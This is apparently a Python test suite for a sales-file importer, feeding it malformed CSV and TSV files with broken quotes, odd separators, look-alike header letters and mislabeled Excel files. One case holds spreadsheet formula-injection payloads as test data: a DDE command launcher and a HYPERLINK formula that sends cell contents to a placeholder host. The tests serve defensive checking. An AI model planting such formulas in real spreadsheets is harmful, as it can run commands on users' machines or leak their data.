"""Text files whose lines, separators, quotes and headers are not as they should be."""

from decimal import Decimal
from typing import Any

from .books import reported
from .cases import Case, case, formatted, left_out, mapped, problem, taken
from .tables import REGISTER, SIMPLE, register, simple, spaced, with_total
from .world import SALES, totals
from .write import apart, text, xlsx

ALL = {"read": 60, "accepted": 60, "rejected": 0, "ignored": 0}
LINKED = '=HYPERLINK("http://nobody.invalid/?x="&A1,"счёт")'


@case
def pipes() -> Case:
    """Upright strokes between the columns."""
    return taken("a.txt", text(register(), delimiter="|"), totals(), ALL, checks=(formatted(delimiter="|"),))


@case
def tabs_in_utf8() -> Case:
    """Tabs between the columns, semicolons and commas inside names."""
    return taken("a.tsv", text(register(), delimiter="\t"), totals(), ALL, checks=(formatted(delimiter="\t"),))


@case
def separator_named_by_excel() -> Case:
    """A first line «sep=;», by which Excel knows the separator."""
    return taken(
        "a.csv",
        b"sep=;\r\n" + text(register(), eol="\r\n"),
        totals(),
        {"accepted": 60, "rejected": 0},
        checks=(formatted(delimiter=";", header_line=2),),
    )


@case
def line_breaks_in_cells() -> Case:
    """Notes of several lines, quotes within quotes, a quote inside a bare cell, no line end at the very end."""
    notes = [
        "строка 1\nстрока 2",
        '= не формула; ""да""\r\nещё строка',
        "",
        "с ; разделителем",
        "🐳 и нуль\u200bпробел",
        "таб\tвнутри",
    ]
    rows = [["ID", "Клиент", "Комментарий", "Сумма", "Дата", "Менеджер"]]
    rows += [
        [str(n), sale.client.name, notes[n % 6], f"{sale.amount}", f"{sale.day}", sale.rep]
        for n, sale in enumerate(SALES)
    ]
    content = text(rows, delimiter=",").replace('"ООО ""Тростник"""'.encode(), 'ООО "Тростник" у реки'.encode())
    return taken("a.csv", content.rstrip(b"\n"), totals(), ALL, checks=(formatted(delimiter=","),))


@case
def short_and_long_lines() -> Case:
    """One line was cut off before the manager, one has a cell too many: neither may shift into other columns."""
    rows: list[list[Any]] = [["ID", "Клиент", "Комментарий", "Сумма", "Дата", "Менеджер"]]
    rows += [[n, sale.client.name, "", f"{sale.amount}", sale.day, sale.rep] for n, sale in enumerate(SALES[:20])]
    rows[5] = rows[5][:5]
    rows[9] = [*rows[9], "лишнее"]
    kept = [sale for n, sale in enumerate(SALES[:20]) if n not in (4, 8)]
    checks = (problem("missing_cells", line=6), problem("extra_cells", line=10))
    codes = frozenset({"missing_cells", "extra_cells"})
    counts = {"read": 20, "accepted": 18, "rejected": 2, "ignored": 0}
    return taken("a.csv", text(rows), totals(kept), counts, status="partial", problems=codes, checks=checks)


@case
def quote_that_nothing_closes() -> Case:
    """A name that begins with a quote and never ends it: the lines below it are no part of the name."""
    sales = [sale for sale in SALES if not {";", '"'} & {*sale.client.name}]
    content = text(simple(sales)).replace(f";{sales[20].client.name};".encode(), ';"Тростник;'.encode(), 1)
    count = {"read": len(sales), "accepted": len(sales), "rejected": 0}
    return taken("a.csv", content, totals(sales), count)


@case
def twins_of_letters_in_headers() -> Case:
    """Latin letters, stars, line breaks and signs without width in headers, names in several spellings."""
    rows: list[list[Any]] = [["\u200bДата  отгрузки", "Mенеджер*", "Клиент\n(контрагент)", "Cумма, руб", "№ п/п"]]
    spell = (str, str.upper, lambda name: f"{name} ", lambda name: name.replace("а", "a"))
    rows += [[sale.day, spell[n % 4](sale.rep), sale.client.name, sale.amount, n] for n, sale in enumerate(SALES)]
    checks = (mapped(date=rows[0][0], rep="Mенеджер*", client="Клиент\n(контрагент)", amount="Cумма, руб"),)
    return taken("a.csv", text(spaced(rows), "utf-8-sig"), totals(), ALL, checks=checks)


@case
def cells_like_formulas() -> Case:
    """Names and notes that begin with = + - @ stay texts, amounts below nought stay numbers."""
    texts = [
        "=CMD|'/C calc'!A0",
        LINKED,
        "+7 000 000-00-00",
        "-скидка по акции",
        "@SUM(1+1)",
        "\t=1+1",
        '"=2+3"',
        "|/etc",
        "%0A=1",
    ]
    back = [sale if n % 3 else sale.__class__(**{**vars(sale), "amount": -sale.amount}) for n, sale in enumerate(SALES)]
    rows: list[list[Any]] = [[*SIMPLE, "Комментарий"]]
    rows += [[sale.day, texts[n % 9], sale.rep, sale.amount, texts[n % 9]] for n, sale in enumerate(back)]
    return taken("a.csv", text(rows), totals(back), ALL)


@case
def wide_table() -> Case:
    """Three hundred columns of which five count; empty headers and equal ones among them."""
    places = {17: "Дата сделки", 101: "Ответственный", 155: "Клиент", 222: "Сумма сделки", 250: "Стадия"}
    header = ["" if n in (40, 41, 42) else "Поле" if n in (60, 61, 62) else f"Поле {n}" for n in range(300)]
    rows: list[list[Any]] = [[places.get(n, name) for n, name in enumerate(header)]]
    for sale in SALES:
        cells = {17: sale.day, 101: sale.rep, 155: sale.client.name, 222: sale.amount, 250: "Оплачено"}
        rows.append([cells.get(n, n * 7 % 13 if n % 3 else "") for n in range(300)])
    checks = (
        mapped(closed="Дата сделки", rep="Ответственный", client="Клиент", amount="Сумма сделки", stage="Стадия"),
    )
    return taken("a.csv", text(rows, "utf-8-sig"), totals(), ALL, kind="deals", checks=checks)


@case
def repeated_headers() -> Case:
    """Two columns «Сумма» and two «Менеджер»: the first of each counts, the second is named apart."""
    rows: list[list[Any]] = [["Дата", "Контрагент", "Менеджер", "Сумма", "Сумма", "Менеджер"]]
    rows += [[sale.day, sale.client.name, sale.rep, sale.amount, sale.amount * 2, "Робот"] for sale in SALES]
    return taken("a.csv", text(rows), totals(), ALL, checks=(mapped(rep="Менеджер", amount="Сумма"),))


@case
def header_on_every_page() -> Case:
    """The header once more every twenty lines, as of a report that was made for paper."""
    head, *rows = text(register()).splitlines(keepends=True)
    pages = [[head, *rows[at : at + 20]] for at in range(0, 60, 20)]
    content = b"".join(line for page in pages for line in page)
    return taken(
        "a.csv", content, totals(), {"accepted": 60, "rejected": 0, "ignored": 2}, checks=(left_out(header=2),)
    )


@case
def totals_in_the_middle() -> Case:
    """«Итого за месяц» under every month in a column of its own, «Всего» at the end."""
    rows: list[list[Any]] = [SIMPLE]
    for month in range(1, 13):
        sales = [sale for sale in SALES if sale.day.month == month]
        rows += [[sale.day, sale.client.name, sale.rep, sale.amount] for sale in sales]
        rows.append(["Итого за месяц", "", "", sum((sale.amount for sale in sales), Decimal(0))])
    rows.append(["Всего", "", "", sum((sale.amount for sale in SALES), Decimal(0))])
    checks = (left_out(total=13),)
    return taken(
        "a.csv", text(rows), totals(), {"accepted": 60, "rejected": 0, "ignored": 13}, control=True, checks=checks
    )


@case
def text_called_xlsx() -> Case:
    """A text file of windows-1251 under the name of an Excel file."""
    content = text(spaced(with_total(register())), "cp1251", eol="\r\n")
    return taken(
        "реализация.xlsx", content, totals(), control=True, checks=(formatted(type="csv", encoding="windows-1251"),)
    )


@case
def xlsx_called_csv() -> Case:
    """An Excel file under the name of a text file."""
    page, sales = reported()
    return taken("отчёт.csv", xlsx(page), totals(sales), control=True, checks=(formatted(type="xlsx"),))


@case
def apostrophes_before_values() -> Case:
    """An apostrophe before document numbers and phones, and thousands apart by apostrophes, as people of Switzerland write."""
    rows: list[list[Any]] = [[*REGISTER, "Телефон"]]
    rows += [[*row[:1], f"'{row[1]}", *row[2:8], apart(row[8], "'"), "'+7 000 000-00-00"] for row in register()[1:]]
    return taken("a.csv", text(rows), totals(), ALL)
